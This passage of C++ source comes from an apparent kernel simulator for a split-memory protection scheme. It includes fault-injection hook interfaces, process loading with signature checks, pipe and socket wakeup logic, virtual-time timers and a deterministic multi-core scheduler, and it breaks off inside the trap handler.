  // connection on `port`. Return true to drop it in flight: the caller
  // sees ERR_REFUSED exactly as if the backlog had been full — the
  // drop-connection fault, exercising the caller's retry/backoff path.
  virtual bool drop_connection(Kernel& k, Process& p, arch::u32 port) {
    (void)k;
    (void)p;
    (void)port;
    return false;
  }
};

// A passive-until-violated observer of the split-protocol invariants,
// called around every retired instruction. The invariant watchdog checks
// and *repairs* protocol state here; it never charges simulated cycles.
class StepObserver {
 public:
  virtual ~StepObserver() = default;

  // Before cpu.step(): runs after FaultSource::pre_step so freshly injected
  // corruption is visible (and repairable) before the guest consumes it.
  virtual void pre_step(Kernel& k, Process& p) {
    (void)k;
    (void)p;
  }

  // After cpu.step() and trap handling. `executed_pc` is the program
  // counter the retired (or faulted) instruction was fetched from.
  virtual void post_step(Kernel& k, Process& p, arch::u32 executed_pc) {
    (void)k;
    (void)p;
    (void)executed_pc;
  }
};

}  // namespace sm::kernel
