#include "kernel/kernel.h"

#include <algorithm>
#include <cstdlib>
#include <cstring>
#include <utility>

namespace sm::kernel {

using arch::kPageSize;
using arch::page_ceil;
using arch::page_floor;
using arch::Pte;
using arch::Trap;
using arch::TrapKind;
using arch::u64;
using arch::vpn_of;

namespace {
constexpr u32 kHeapBase = 0x09010000;
constexpr u32 kStackTop = 0xC0000000;

std::string hex(u32 v) {
  char buf[16];
  std::snprintf(buf, sizeof buf, "0x%08x", v);
  return buf;
}

[[maybe_unused]] u32 pf_bits(const arch::PageFaultInfo& pf) {
  u32 bits = 0;
  if (pf.present) bits |= trace::kPfPresent;
  if (pf.write) bits |= trace::kPfWrite;
  if (pf.user) bits |= trace::kPfUser;
  if (pf.fetch) bits |= trace::kPfFetch;
  if (pf.soft_miss) bits |= trace::kPfSoftMiss;
  return bits;
}

// Runtime kill switch for the block engine, read once: SM_DBT=0 turns it
// off so one binary can produce the dbt-on/off identity diff
// (cmake/DbtIdentityCheck.cmake) without a rebuild.
bool dbt_env_enabled() {
  static const bool enabled = [] {
    const char* v = std::getenv("SM_DBT");
    return v == nullptr || std::strcmp(v, "0") != 0;
  }();
  return enabled;
}

// KernelConfig::cores = 0 means "SM_CORES env, default 1". Deliberately NOT
// statically cached: one process (tests, benches) builds kernels with
// different core counts. Capped at 32 so a core set fits a u32 bitmask.
u32 resolve_cores(u32 cfg_cores) {
  u32 n = cfg_cores;
  if (n == 0) {
    const char* v = std::getenv("SM_CORES");
    const long parsed = v != nullptr ? std::strtol(v, nullptr, 10) : 1;
    n = parsed >= 1 ? static_cast<u32>(parsed) : 1;
  }
  return std::min<u32>(n, 32);
}

// Dispatch quantum for the deterministic core interleave: attempted
// instructions one core runs before the machine rotates to the next.
// Counted identically by the per-instruction and block-engine paths, so
// DBT on/off cannot shift the schedule (the dbt_identity contract extends
// to --cores N). A single core runs unbounded — see Kernel::run.
constexpr u64 kSmpDispatchQuantum = 32;

// IPI delivery attempts per shootdown target before the sender gives up
// and parks the shootdown as pending (only injected drop-ipi faults can
// exhaust this).
constexpr u32 kIpiRetryLimit = 3;
}  // namespace

Kernel::Kernel(KernelConfig cfg)
    : cfg_(std::move(cfg)),
      pm_(cfg_.phys_frames),
      engine_(std::make_unique<NoProtectionEngine>()),
      rng_state_(cfg_.rng_seed == 0 ? 1 : cfg_.rng_seed) {
  cfg_.cores = resolve_cores(cfg_.cores);
  cores_.reserve(cfg_.cores);
  for (u32 i = 0; i < cfg_.cores; ++i) {
    cores_.push_back(std::make_unique<Core>(i, pm_, stats_, cfg_.cost,
                                            cfg_.tlb_entries, cfg_.tlb_ways));
  }
  if (SM_TRACE_ENABLED && cfg_.trace) {
    trace_.enable({cfg_.trace_ring_capacity});
    trace_.set_stats(&stats_);
    trace_ptr_ = &trace_;
  }
  for (const auto& c : cores_) {
    c->mmu.set_software_tlb(cfg_.software_tlb);
    c->cpu.set_block_engine_enabled(SM_DBT_ENABLED && cfg_.dbt &&
                                    dbt_env_enabled());
    if (trace_ptr_ != nullptr) {
      c->mmu.set_trace(trace_ptr_);
      c->cpu.set_trace(trace_ptr_);
    }
  }
}

void Kernel::set_engine(std::unique_ptr<ProtectionEngine> engine) {
  if (!procs_.empty()) {
    throw std::logic_error("set_engine must precede the first spawn");
  }
  engine_ = std::move(engine);
}

u32 Kernel::rng_next() {
  // xorshift32: deterministic, seedable.
  u32 x = rng_state_;
  x ^= x << 13;
  x ^= x >> 17;
  x ^= x << 5;
  rng_state_ = x;
  return x;
}

void Kernel::log(const std::string& line) { klog_.push_back(line); }

// --------------------------------------------------------------------------
// Intrusive runqueue
// --------------------------------------------------------------------------

void Kernel::RunQueue::push_back(Process& p) {
  p.on_runqueue = true;
  p.rq_core = core_id;
  p.rq_next = nullptr;
  p.rq_prev = tail;
  if (tail != nullptr) {
    tail->rq_next = &p;
  } else {
    head = &p;
  }
  tail = &p;
}

Process* Kernel::RunQueue::pop_front() {
  Process* p = head;
  if (p != nullptr) remove(*p);
  return p;
}

void Kernel::RunQueue::remove(Process& p) {
  if (p.rq_prev != nullptr) {
    p.rq_prev->rq_next = p.rq_next;
  } else {
    head = p.rq_next;
  }
  if (p.rq_next != nullptr) {
    p.rq_next->rq_prev = p.rq_prev;
  } else {
    tail = p.rq_prev;
  }
  p.rq_next = nullptr;
  p.rq_prev = nullptr;
  p.on_runqueue = false;
}

// --------------------------------------------------------------------------
// Images & loading
// --------------------------------------------------------------------------

void Kernel::register_image(image::Image img) {
  if (cfg_.require_signatures && !img.verify(cfg_.signing_key)) {
    // Registered anyway; spawn/exec/dlopen will refuse it. This mirrors an
    // on-disk binary with a bad signature.
    log("[image] " + img.name + " has an INVALID signature");
  }
  images_[img.name] = std::move(img);
}

const image::Image* Kernel::find_image(const std::string& name) const {
  const auto it = images_.find(name);
  return it == images_.end() ? nullptr : &it->second;
}

bool Kernel::image_allowed(const image::Image& img) const {
  if (!cfg_.require_signatures) return true;
  return img.verify(cfg_.signing_key);
}

void Kernel::load_into(Process& p, const image::Image& img) {
  p.as = std::make_unique<AddressSpace>(pm_);
  for (const image::Segment& seg : img.segments) {
    Vma vma;
    vma.start = page_floor(seg.vaddr);
    vma.end = page_ceil(seg.vaddr + seg.mem_size);
    vma.prot = seg.prot;
    vma.name = seg.name;
    if (seg.name == "text") {
      vma.kind = VmaKind::kCode;
    } else if (seg.name == "data") {
      vma.kind = VmaKind::kData;
    } else if (seg.name == "bss") {
      vma.kind = VmaKind::kBss;
    } else {
      vma.kind = VmaKind::kLibrary;
    }
    vma.backing = std::make_shared<const std::vector<u8>>(seg.bytes);
    // Backing bytes start at seg.vaddr which may sit inside the first page.
    // Our assembler emits page-aligned section bases, so keep it simple and
    // require alignment.
    if (seg.vaddr != vma.start) {
      throw std::runtime_error("segment " + seg.name + " not page aligned");
    }
    vma.backing_offset = 0;
    p.as->add_vma(std::move(vma));
  }

  // Stack.
  Vma stack;
  stack.start = kStackTop - cfg_.stack_pages * kPageSize;
  stack.end = kStackTop;
  stack.prot = kProtR | kProtW;
  stack.kind = VmaKind::kStack;
  stack.name = "stack";
  p.as->add_vma(std::move(stack));

  p.as->brk_end = kHeapBase;

  u32 rand_off = 0;
  if (cfg_.stack_randomization) {
    // "slight randomization": up to 8 KiB in 16-byte steps, like early 2.6.
    rand_off = (rng_next() % 512) * 16;
  }
  p.regs = arch::Regs{};
  p.regs.pc = img.entry;
  p.regs.sp() = kStackTop - 64 - rand_off;
  p.regs.fp() = p.regs.sp();
  p.name = img.name;

  if (cfg_.eager_load) {
    // Paper SS5.1 prototype behaviour: "two new, side-by-side, physical
    // pages are created and the original page is copied into both" for the
    // whole program image at load time.
    for (const Vma& vma : p.as->vmas()) {
      for (u32 page = vma.start; page < vma.end; page += kPageSize) {
        if (!p.as->pt().get(page).present()) {
          engine_->materialize(*this, p, vma, page);
          ++stats_.demand_pages;
          stats_.cycles += cfg_.cost.demand_page;
          SM_TRACE(trace_ptr_, charge(trace::Category::kDemandPage,
                                      cfg_.cost.demand_page, page));
          SM_TRACE(trace_ptr_, record(trace::EventKind::kDemandPage, page,
                                      p.as->pt().get(page).pfn()));
        }
      }
    }
  }
}

Pid Kernel::spawn(const std::string& image_name) {
  const image::Image* img = find_image(image_name);
  if (img == nullptr) throw std::invalid_argument("no image " + image_name);
  if (!image_allowed(*img)) {
    throw std::runtime_error("image " + image_name +
                             " rejected: bad signature");
  }
  auto proc = std::make_unique<Process>();
  proc->pid = next_pid_++;
  proc->fds.resize(2);
  proc->fds[kFdNet] = std::monostate{};
  proc->fds[kFdConsole] = FdConsole{};
  // Slot 0 is free until a channel is attached; alloc_fd may claim it.
  proc->free_fd(kFdNet);
  load_into(*proc, *img);
  const Pid pid = proc->pid;
  procs_.push_back(std::move(proc));
  ++live_procs_;
  home_core(*procs_.back()).runqueue.push_back(*procs_.back());
  log("[spawn] pid " + std::to_string(pid) + " <- " + image_name);
  return pid;
}

std::shared_ptr<Channel> Kernel::attach_channel(Pid pid) {
  Process* p = process(pid);
  if (p == nullptr) throw std::invalid_argument("no such pid");
  auto chan = std::make_shared<Channel>();
  p->fds[kFdNet] = FdChannel{chan};
  return chan;
}

std::shared_ptr<Channel> Kernel::channel_of(Pid pid, u32 fd) {
  Process* p = process(pid);
  if (p == nullptr || fd >= p->fds.size()) return nullptr;
  if (auto* c = std::get_if<FdChannel>(&p->fds[fd])) return c->chan;
  return nullptr;
}

Process* Kernel::process(Pid pid) {
  if (pid == 0 || pid > procs_.size()) return nullptr;
  Process* p = procs_[pid - 1].get();
  return p->pid == pid ? p : nullptr;  // slot-generation check
}

const Process* Kernel::process(Pid pid) const {
  if (pid == 0 || pid > procs_.size()) return nullptr;
  const Process* p = procs_[pid - 1].get();
  return p->pid == pid ? p : nullptr;
}

// --------------------------------------------------------------------------
// Memory services
// --------------------------------------------------------------------------

arch::Regs& Kernel::regs_of(Process& p) {
  for (const auto& c : cores_) {
    if (c->current && *c->current == p.pid) return c->cpu.regs();
  }
  return p.regs;
}

u32 Kernel::alloc_initial_frame(Process& p, const Vma& vma, u32 page_va) {
  const u32 frame = pm_.alloc_frame();
  p.as->initial_page_bytes(vma, page_va, pm_.frame_bytes(frame));
  return frame;
}

bool Kernel::ensure_mapped(Process& p, u32 va, u32 len) {
  if (len == 0) return true;
  const u32 first = page_floor(va);
  const u32 last = page_floor(va + len - 1);
  for (u32 page = first;; page += kPageSize) {
    const Pte pte = p.as->pt().get(page);
    if (!pte.present()) {
      const Vma* vma = p.as->find_vma(page);
      if (vma == nullptr) return false;
      ++stats_.demand_pages;
      stats_.cycles += cfg_.cost.demand_page;
      SM_TRACE(trace_ptr_, charge(trace::Category::kDemandPage,
                                  cfg_.cost.demand_page, page));
      engine_->materialize(*this, p, *vma, page);
      SM_TRACE(trace_ptr_, record(trace::EventKind::kDemandPage, page,
                                  p.as->pt().get(page).pfn()));
    }
    if (page == last) break;
  }
  return true;
}

namespace {
void retain_fds(std::vector<FdEntry>& fds) {
  for (FdEntry& e : fds) {
    if (auto* pw = std::get_if<FdPipeWrite>(&e)) pw->pipe->add_writer();
    if (auto* pr = std::get_if<FdPipeRead>(&e)) pr->pipe->add_reader();
    if (auto* sk = std::get_if<FdSock>(&e)) {
      sk->rx->add_reader();
      sk->tx->add_writer();
    }
    if (auto* l = std::get_if<FdListen>(&e)) ++l->sock->refs;
  }
}
}  // namespace

void Kernel::release_fd(FdEntry& e) {
  if (auto* pw = std::get_if<FdPipeWrite>(&e)) {
    const std::shared_ptr<Pipe> pipe = pw->pipe;  // outlive the fd slot
    pipe->remove_writer();
    // Last writer gone and nothing buffered: every sleeping reader is at
    // EOF right now, and no future event will arrive to wake it.
    if (pipe->eof()) wake_all(pipe->read_waiters);
  } else if (auto* pr = std::get_if<FdPipeRead>(&e)) {
    const std::shared_ptr<Pipe> pipe = pr->pipe;
    pipe->remove_reader();
    if (pipe->read_closed()) {
      // EPIPE: sleeping writers can never make progress again.
      wake_all(pipe->write_waiters);
    } else if (pipe->readable() > 0) {
      // A reader died holding the handoff baton (woken for data it never
      // consumed): pass the buffered bytes to the next sleeper.
      wake_one(pipe->read_waiters);
    }
  } else if (auto* sk = std::get_if<FdSock>(&e)) {
    // A connected socket is a reader on rx and a writer on tx; closing it
    // ripples both directions exactly as the two pipe halves would.
    const std::shared_ptr<Pipe> rx = sk->rx;
    const std::shared_ptr<Pipe> tx = sk->tx;
    tx->remove_writer();
    if (tx->eof()) wake_all(tx->read_waiters);
    rx->remove_reader();
    if (rx->read_closed()) {
      wake_all(rx->write_waiters);
    } else if (rx->readable() > 0) {
      wake_one(rx->read_waiters);
    }
  } else if (auto* l = std::get_if<FdListen>(&e)) {
    const std::shared_ptr<ListenSock> sock = l->sock;
    if (--sock->refs <= 0) {
      // Last holder gone: the port closes. Queued-but-unaccepted
      // connections are torn down as peer closes — the client side sees
      // EOF on its rx and EPIPE on its tx, exactly like a peer that
      // accepted and immediately closed.
      for (auto& conn : sock->backlog) {
        conn.s2c->remove_writer();
        if (conn.s2c->eof()) wake_all(conn.s2c->read_waiters);
        conn.c2s->remove_reader();
        if (conn.c2s->read_closed()) wake_all(conn.c2s->write_waiters);
      }
      sock->backlog.clear();
      // Parked accepters can never succeed now; on retry they see EBADF.
      wake_all(sock->accept_waiters);
      listen_ports_.erase(sock->port);
    }
  }
  e = std::monostate{};
}

void Kernel::release_all_fds(Process& p) {
  for (FdEntry& e : p.fds) release_fd(e);
  p.fds.clear();
  p.free_fds = {};
}

void Kernel::kill_process(Process& p, ExitKind kind, const std::string& reason) {
  log("[kill] pid " + std::to_string(p.pid) + " (" + p.name + "): " + reason);
  cancel_timer(p);
  if (p.alive()) --live_procs_;
  p.state = ProcState::kZombie;
  p.exit_kind = kind;
  p.exit_code = 0xFF;
  if (cfg_.capture_exit_digest && p.as) p.exit_digest = final_memory_digest(p);
  p.as.reset();
  release_all_fds(p);
  wake_exit_waiters(p);
  for (const auto& c : cores_) {
    if (c->current && *c->current == p.pid) c->current = std::nullopt;
  }
  if (p.on_runqueue) cores_[p.rq_core]->runqueue.remove(p);
}

// --------------------------------------------------------------------------
// Scheduler & run loop
// --------------------------------------------------------------------------

bool Kernel::fd_readable(const Process& p, u32 fd) const {
  if (fd >= p.fds.size()) return true;
  const FdEntry& e = p.fds[fd];
  if (const auto* c = std::get_if<FdChannel>(&e)) {
    return c->chan->guest_readable() > 0 || c->chan->guest_eof();
  }
  if (const auto* pr = std::get_if<FdPipeRead>(&e)) {
    return pr->pipe->readable() > 0 || pr->pipe->eof();
  }
  if (const auto* l = std::get_if<FdListen>(&e)) {
    return !l->sock->backlog.empty();
  }
  if (const auto* sk = std::get_if<FdSock>(&e)) {
    return sk->rx->readable() > 0 || sk->rx->eof();
  }
  return true;  // console/file/closed fds never block a read
}

bool Kernel::wait_satisfied(const Process& p) const {
  if (std::holds_alternative<WaitNone>(p.waiting)) return true;
  if (const auto* wr = std::get_if<WaitReadFd>(&p.waiting)) {
    return fd_readable(p, wr->fd);
  }
  if (const auto* ww = std::get_if<WaitWriteFd>(&p.waiting)) {
    if (ww->fd >= p.fds.size()) return true;
    const FdEntry& e = p.fds[ww->fd];
    if (const auto* pw = std::get_if<FdPipeWrite>(&e)) {
      return pw->pipe->writable() > 0 || pw->pipe->read_closed();
    }
    if (const auto* sk = std::get_if<FdSock>(&e)) {
      return sk->tx->writable() > 0 || sk->tx->read_closed();
    }
    return true;
  }
  if (const auto* ws = std::get_if<WaitSelect2>(&p.waiting)) {
    return fd_readable(p, ws->fd_a) || fd_readable(p, ws->fd_b);
  }
  if (const auto* wc = std::get_if<WaitChild>(&p.waiting)) {
    const Process* target = process(wc->pid);
    return target == nullptr || !target->alive();
  }
  if (std::holds_alternative<WaitSleep>(p.waiting)) {
    // Only the deadline timer (or a kill) ends a sleep; no fd event does.
    return false;
  }
  return true;
}

void Kernel::register_waiter(Process& p) {
  const auto register_read_fd = [&](u32 fd) {
    if (fd >= p.fds.size()) return;
    FdEntry& e = p.fds[fd];
    if (std::holds_alternative<FdChannel>(e)) {
      channel_waiters_.insert(p.pid);
    } else if (auto* pr = std::get_if<FdPipeRead>(&e)) {
      pr->pipe->read_waiters.push_back(p.pid);
    } else if (auto* l = std::get_if<FdListen>(&e)) {
      l->sock->accept_waiters.push_back(p.pid);
    } else if (auto* sk = std::get_if<FdSock>(&e)) {
      sk->rx->read_waiters.push_back(p.pid);
    }
  };
  if (const auto* wr = std::get_if<WaitReadFd>(&p.waiting)) {
    register_read_fd(wr->fd);
  } else if (const auto* ww = std::get_if<WaitWriteFd>(&p.waiting)) {
    if (ww->fd < p.fds.size()) {
      if (auto* pw = std::get_if<FdPipeWrite>(&p.fds[ww->fd])) {
        pw->pipe->write_waiters.push_back(p.pid);
      } else if (auto* sk = std::get_if<FdSock>(&p.fds[ww->fd])) {
        sk->tx->write_waiters.push_back(p.pid);
      }
    }
  } else if (const auto* ws = std::get_if<WaitSelect2>(&p.waiting)) {
    register_read_fd(ws->fd_a);
    register_read_fd(ws->fd_b);
  } else if (const auto* wc = std::get_if<WaitChild>(&p.waiting)) {
    if (Process* target = process(wc->pid)) {
      target->exit_waiters.push_back(p.pid);
    }
  }
}

bool Kernel::wake_one(std::deque<u32>& waiters) {
  while (!waiters.empty()) {
    const Pid pid = waiters.front();
    waiters.pop_front();
    ++stats_.sched_wake_checks;
    Process* w = process(pid);
    if (w != nullptr && w->state == ProcState::kBlocked &&
        wait_satisfied(*w)) {
      make_runnable(*w);
      return true;
    }
    // Stale entry (woken through another queue, or dead): drop and retry.
  }
  return false;
}

void Kernel::wake_all(std::deque<u32>& waiters) {
  while (!waiters.empty()) {
    const Pid pid = waiters.front();
    waiters.pop_front();
    ++stats_.sched_wake_checks;
    Process* w = process(pid);
    if (w != nullptr && w->state == ProcState::kBlocked &&
        wait_satisfied(*w)) {
      make_runnable(*w);
    }
  }
}

void Kernel::wake_exit_waiters(Process& p) {
  for (const Pid pid : p.exit_waiters) {
    ++stats_.sched_wake_checks;
    Process* w = process(pid);
    if (w != nullptr && w->state == ProcState::kBlocked &&
        wait_satisfied(*w)) {
      make_runnable(*w);
    }
  }
  p.exit_waiters.clear();
}

void Kernel::wake_channel_waiters() {
  // Channel readability is driven by the host between run() calls, so this
  // runs at the points the retired global sweep did (scheduling decisions),
  // over only the channel-blocked pids, in pid order — the sweep's order.
  // Entries persist until satisfied; stale ones (woken through a pipe
  // queue, or dead) are dropped as they are found.
  for (auto it = channel_waiters_.begin(); it != channel_waiters_.end();) {
    ++stats_.sched_wake_checks;
    Process* w = process(*it);
    if (w == nullptr || w->state != ProcState::kBlocked) {
      it = channel_waiters_.erase(it);
      continue;
    }
    if (wait_satisfied(*w)) {
      make_runnable(*w);
      it = channel_waiters_.erase(it);
      continue;
    }
    ++it;
  }
}

void Kernel::make_runnable(Process& p) {
  cancel_timer(p);  // an event win disarms the deadline; timed_out stays
  p.state = ProcState::kRunnable;
  p.waiting = WaitNone{};
  if (!p.on_runqueue) home_core(p).runqueue.push_back(p);
}

// --------------------------------------------------------------------------
// Deadline timers (virtual time)
//
// The wheel is a set ordered by (deadline, pid); Process::wait_deadline
// mirrors membership (0 = not armed) so cancellation is O(log n) without a
// search. The wheel is never serialized: restore rebuilds it from the
// process table, so the snapshot stays a pure function of guest state.
// --------------------------------------------------------------------------

void Kernel::arm_timer(Process& p, u64 timeout) {
  if (timeout == 0) return;
  cancel_timer(p);
  p.wait_deadline = stats_.cycles + timeout;
  timers_.insert({p.wait_deadline, p.pid});
}

void Kernel::cancel_timer(Process& p) {
  if (p.wait_deadline == 0) return;
  timers_.erase({p.wait_deadline, p.pid});
  p.wait_deadline = 0;
}

void Kernel::expire_timers() {
  while (!timers_.empty() && timers_.begin()->first <= stats_.cycles) {
    const Pid pid = timers_.begin()->second;
    timers_.erase(timers_.begin());
    Process* p = process(pid);
    if (p == nullptr) continue;
    p->wait_deadline = 0;
    if (p->state != ProcState::kBlocked) continue;
    ++stats_.timer_fires;
    SM_TRACE(trace_ptr_, record(trace::EventKind::kTimerFire, 0, pid));
    // Only a wait that re-runs its syscall can observe ERR_TIMEDOUT; an
    // injected stall (retry_syscall false) just resumes at its pc.
    if (p->retry_syscall) p->timed_out = true;
    make_runnable(*p);
  }
}

u64 Kernel::advance_idle_time(u64 to_cycles) {
  // Host pacing hook: an embedder modelling external arrivals moves the
  // clock forward while everything is parked. Never skips past an armed
  // deadline — the earliest timer fires first, at its exact cycle.
  if (!timers_.empty()) to_cycles = std::min(to_cycles, timers_.begin()->first);
  if (to_cycles > stats_.cycles) {
    ++stats_.idle_advances;
    stats_.cycles = to_cycles;
    expire_timers();
  }
  return stats_.cycles;
}

void Kernel::inject_stall(Process& p, u64 cycles) {
  // Park a dispatched process as if it had slept: the stall-worker fault.
  // retry_syscall stays false, so expiry resumes it at its current pc.
  if (cycles == 0 || !p.alive()) return;
  p.waiting = WaitSleep{};
  p.state = ProcState::kBlocked;
  arm_timer(p, cycles);
  deschedule(p);
  if (p.on_runqueue) cores_[p.rq_core]->runqueue.remove(p);
}

std::optional<Pid> Kernel::pick_next(Core& c) {
  while (!c.runqueue.empty()) {
    const Process* p = c.runqueue.pop_front();
    if (p->state == ProcState::kRunnable) return p->pid;
  }
  // Work stealing: scan the other queues in core-id order starting just
  // past this core, head-first (the victim's own dispatch order). A
  // process mid single-step window is pinned — Algorithm 1's state lives
  // in the TLBs of the core that opened the window, so migrating it would
  // re-fault on cold TLBs and double-charge the protocol.
  for (u32 off = 1; off < cores_.size(); ++off) {
    Core& victim = *cores_[(c.id + off) % cores_.size()];
    for (Process* q = victim.runqueue.head; q != nullptr; q = q->rq_next) {
      if (q->state != ProcState::kRunnable) continue;
      if (q->pending_split_vaddr.has_value() || q->regs.tf()) continue;
      victim.runqueue.remove(*q);
      ++stats_.work_steals;
      return q->pid;
    }
  }
  return std::nullopt;
}

void Kernel::switch_to(Core& c, Pid pid) {
  Process& p = *process(pid);
  if (!c.last_running || *c.last_running != pid) {
    ++stats_.context_switches;
    stats_.cycles += cfg_.cost.context_switch;
    SM_TRACE(trace_ptr_, set_current_pid(pid));
    SM_TRACE(trace_ptr_, record(trace::EventKind::kContextSwitch, 0,
                                c.last_running ? *c.last_running : 0));
    SM_TRACE(trace_ptr_, charge(trace::Category::kContextSwitch,
                                cfg_.cost.context_switch));
    c.mmu.set_cr3(p.as->root());  // flushes both TLBs
  }
  c.cpu.regs() = p.regs;
  c.current = pid;
  c.last_running = pid;
  c.slice_used = 0;
}

void Kernel::deschedule(Process& p) {
  for (const auto& c : cores_) {
    if (c->current && *c->current == p.pid) {
      p.regs = c->cpu.regs();
      c->current = std::nullopt;
    }
  }
}

Kernel::RunResult Kernel::run(u64 max_instructions, u64 cycle_stop) {
  u64 executed = 0;
  const auto cycle_stopped = [&] {
    return cycle_stop != 0 && stats_.cycles >= cycle_stop;
  };
  // Deterministic SMP interleave: cores take fixed-size turns in core-id
  // order. A single core gets an unbounded quantum, making the inner loop
  // the historical single-core run loop, iteration for iteration.
  const u64 quantum = cores_.size() == 1 ? UINT64_MAX : kSmpDispatchQuantum;
  while (executed < max_instructions) {
    Core& core = *cores_[active_core_];
    if (cores_.size() > 1) {
      // Re-stamp the trace context for the incoming core. No event is
      // emitted: rotation is a simulator construct, not machine work.
      SM_TRACE(trace_ptr_,
               set_current_core(static_cast<trace::u8>(core.id)));
      if (core.current) {
        SM_TRACE(trace_ptr_, set_current_pid(*core.current));
      }
    }
    bool idle = false;
    while (executed < max_instructions && quantum_used_ < quantum &&
           !cycle_stopped()) {
      if (!core.current) {
        expire_timers();
        wake_channel_waiters();
        const auto next = pick_next(core);
        if (!next) {
          idle = true;
          break;
        }
        switch_to(core, *next);
      }
      Process& p = *process(*core.current);

      if (p.retry_syscall) {
        p.retry_syscall = false;
        try {
          do_syscall(p, /*retried=*/true);
        } catch (const arch::OutOfMemoryError&) {
          // Injected frame exhaustion degrades to killing the requester;
          // genuine global exhaustion keeps its documented contract (the
          // error propagates to the embedder).
          if (fault_source_ == nullptr) throw;
          if (p.alive()) {
            kill_process(p, ExitKind::kKilledSigsegv,
                         "out of memory (no frame available)");
          }
        }
        if (!core.current) continue;  // blocked again or exited
      }

#if SM_INVARIANT_ENABLED
      if (fault_source_ != nullptr) [[unlikely]] {
        fault_source_->pre_step(*this, p);
        // Stall-worker fault: park the process about to run as if it had
        // slept, and let the scheduler route around it.
        const u64 stall = fault_source_->stall_cycles(*this, p);
        if (stall > 0) {
          inject_stall(p, stall);
          if (!core.current) continue;
        }
      }
      if (step_observer_ != nullptr) [[unlikely]] {
        step_observer_->pre_step(*this, p);
      }
#endif
      const bool tf_before = core.cpu.regs().tf();
      [[maybe_unused]] const u32 pc_before = core.cpu.regs().pc;
      // Block-engine dispatch (mini-DBT): whole basic blocks per dispatch
      // when nothing needs to observe individual instructions. TF windows
      // are per-instruction by definition (Algorithm 2), and an attached
      // fault injector or invariant watchdog wants its pre/post hooks
      // between every step — those take the step() path, whose semantics
      // and billing the block engine reproduces exactly.
      const bool use_blocks = SM_DBT_ENABLED &&
                              core.cpu.block_engine_enabled() && !tf_before &&
                              fault_source_ == nullptr &&
                              step_observer_ == nullptr;
      std::optional<Trap> trap;
      if (use_blocks) {
        // A block may not run past the instruction budget, the timeslice
        // boundary, the core's dispatch quantum or the caller's cycle
        // bound: preemption timing is architectural state the figures
        // depend on, so the budgets clip blocks exactly where the
        // per-instruction loop would have stopped stepping.
        const u64 slice = cfg_.cost.timeslice_instructions;
        const u64 slice_room =
            slice > core.slice_used ? slice - core.slice_used : 1;
        const arch::Cpu::BlockStep bs = core.cpu.step_block(
            std::min({max_instructions - executed, slice_room,
                      quantum - quantum_used_}),
            cycle_stop);
        trap = bs.trap;
        executed += bs.attempts;
        quantum_used_ += bs.attempts;
        core.slice_used += bs.attempts;
      } else {
        trap = core.cpu.step();
        ++executed;
        ++quantum_used_;
        ++core.slice_used;
      }
      if (trap) {
        try {
          handle_trap(p, *trap, tf_before);
        } catch (const arch::OutOfMemoryError&) {
          // INJECTED frame exhaustion surfacing through a path with no
          // dedicated recovery (fork, COW, a data-frame allocation):
          // degrade by killing the process, never by tearing down the
          // kernel. Genuine exhaustion (no injector attached) keeps its
          // documented contract and propagates to the embedder.
          if (fault_source_ == nullptr) throw;
          if (p.alive()) {
            kill_process(p, ExitKind::kKilledSigsegv,
                         "out of memory (no frame available)");
          }
        }
      }
#if SM_INVARIANT_ENABLED
      if (step_observer_ != nullptr) [[unlikely]] {
        step_observer_->post_step(*this, p, pc_before);
      }
      if (fault_source_ != nullptr && core.current) [[unlikely]] {
        // Injected mid-window preemption: force the timer to fire early.
        if (fault_source_->force_preempt(*this, p)) {
          core.slice_used = cfg_.cost.timeslice_instructions;
        }
      }
#endif

      // Timer preemption: round-robin if someone else is waiting for the
      // CPU.
      if (core.current && core.slice_used >= cfg_.cost.timeslice_instructions) {
        expire_timers();
        wake_channel_waiters();
        // The queue holds only runnable processes: blocking happens while
        // current (never queued) and exit/kill remove the entry — so any
        // entry at all means someone else wants the CPU.
        if (!core.runqueue.empty()) {
          Process& cur = *process(*core.current);
          deschedule(cur);
          core.runqueue.push_back(cur);
        } else {
          core.slice_used = 0;
        }
      }
    }
    if (idle) {
      // Nothing runnable here. If the whole machine is out of work,
      // report why; otherwise the other cores still have turns coming.
      bool any_work = false;
      for (const auto& c : cores_) {
        if (c->current || !c->runqueue.empty()) {
          any_work = true;
          break;
        }
      }
      if (!any_work) {
        // Virtual idle: every process is blocked, but if a deadline is
        // armed the machine is only waiting for time to pass — jump the
        // clock to the earliest deadline and fire it. kAllBlocked now
        // means "blocked with no timer able to change that".
        if (!timers_.empty()) {
          u64 to = timers_.begin()->first;
          // A cycle bound clips the jump: the caller wants control at
          // `cycle_stop` even if the earliest deadline is further out.
          if (cycle_stop != 0 && to > cycle_stop) to = cycle_stop;
          ++stats_.idle_advances;
          stats_.cycles = std::max(stats_.cycles, to);
          expire_timers();
          if (cycle_stopped()) return RunResult::kBudgetExhausted;
        } else {
          return all_exited() ? RunResult::kAllExited : RunResult::kAllBlocked;
        }
      }
    }
    if ((executed >= max_instructions || cycle_stopped()) &&
        quantum_used_ < quantum && !idle) {
      // Budget exhausted mid-turn: keep the quantum phase so a resumed run
      // (or a snapshot/restore) continues the interleave exactly where a
      // single uninterrupted run would be.
      break;
    }
    quantum_used_ = 0;
    if (cores_.size() > 1) {
      active_core_ = (active_core_ + 1) % static_cast<u32>(cores_.size());
    }
  }
  return RunResult::kBudgetExhausted;
}

void Kernel::handle_trap(Process& p, const Trap& trap, bool tf_before) {
  switch (trap.kind) {
    case TrapKind::kSyscall: {
      trace::Scope scope(SM_TRACE_SINK(trace_ptr_), trace::Category::kSyscall,
                         cpu().regs().pc);
      // Record before do_syscall overwrites r0 with the return value.
      SM_TRACE(trace_ptr_, record(trace::EventKind::kSyscall, cpu().regs().pc,
                                  regs_of(p).r[0]));
      ++stats_.syscalls;
      stats_.cycles += cfg_.cost.syscall_cost;
      SM_TRACE(trace_ptr_, charge(trace::Category::kSyscall,
                                  cfg_.cost.syscall_cost));
      do_syscall(p);
      // A single-stepped SYSCALL still owes the engine its debug trap
      // (the I-TLB got filled when the instruction was refetched).
      if (tf_before && p.alive()) {
        engine_->on_debug_step(*this, p);
      }
      break;
    }
    case TrapKind::kPageFault: {
      trace::Scope scope(SM_TRACE_SINK(trace_ptr_),
                         trap.pf.soft_miss ? trace::Category::kSoftTlbFill
                                           : trace::Category::kPageFaultTrap,
                         trap.pf.addr);
      SM_TRACE(trace_ptr_,
               record(trace::EventKind::kTrap, trap.pf.addr, pf_bits(trap.pf),
                      static_cast<trace::u8>(trap.kind)));
      if (trap.pf.soft_miss) {
        // Software-TLB fill: a lightweight trap (paper SS4.7).
